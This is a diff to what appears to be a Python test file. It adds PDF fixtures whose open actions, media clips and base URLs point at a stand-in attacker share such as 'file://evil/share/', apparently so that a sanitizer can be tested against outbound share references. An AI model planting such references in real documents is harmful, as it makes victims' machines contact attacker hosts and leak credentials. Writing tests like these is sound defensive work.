@@ -123,6 +123,9 @@ ON_A_SHARE = {
     "picture": in_a_picture,
     "style sheet of a form": form(b"<?xml-stylesheet href='\\\\evil\\a.xsl'?><x/>"),
     "picture of a form": form(b"<x><image href='&#92;\\evil\\a.png'/></x>"),
+    "attached file as a text": opening(Dictionary(S=Name.GoTo, FS=SHARE)),
+    "clip": opening(Dictionary(S=Name.Rendition, R=Dictionary(C=Dictionary(S=Name.MCD, D=SHARE)))),
+    "base of a clip": opening(Dictionary(S=Name.Rendition, R=Dictionary(MH=Dictionary(BU="file://evil/share/")))),
     "address on opening": opening(Dictionary(S=Name.URI, URI="file://evil/share")),
     "address after opening": opening(Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.URI, URI=SHARE)]))),
     "address of a page": lambda document: setattr(
